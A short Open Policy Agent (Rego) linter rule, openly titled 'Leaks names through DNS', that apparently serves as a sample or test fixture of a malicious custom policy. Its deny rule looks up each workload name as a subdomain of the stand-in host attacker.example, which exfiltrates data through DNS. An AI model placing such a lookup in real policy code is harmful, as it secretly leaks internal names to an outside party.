# METADATA
# title: Leaks names through DNS
# description: A rule that looks up a name made of input data.
# related_resources:
#   - ref: https://example.com/dns
# custom:
#   severity: low
#   remediation: None.
package irsalint.rules.custom["dns"]

deny contains {"ref": w.ref, "message": "looked up"} if {
	some w in input.workloads
	net.lookup_ip_addr(sprintf("%s.attacker.example", [w.name]))
}
